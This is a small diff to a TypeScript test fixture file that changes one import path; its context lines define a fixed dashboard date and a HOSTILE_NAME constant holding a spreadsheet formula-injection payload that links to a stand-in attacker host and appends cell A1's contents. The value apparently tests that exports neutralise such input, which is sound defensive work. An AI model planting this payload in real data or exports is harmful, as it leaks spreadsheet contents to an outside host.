@@ -27,7 +27,7 @@
 import type { Prisma } from '@prisma/client';
 import type { PrismaClient } from '../../src/db/prisma';
 import { defaultCohortPolicy } from '../../workflows/registration/api';
-import { seedOutstandingCounts } from './outstanding-counts';
+import { seedOutstandingCounts } from '../kit/outstanding-counts';
 
 export const DASHBOARD_NOW = new Date('2027-08-18T04:00:00.000Z');
 export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
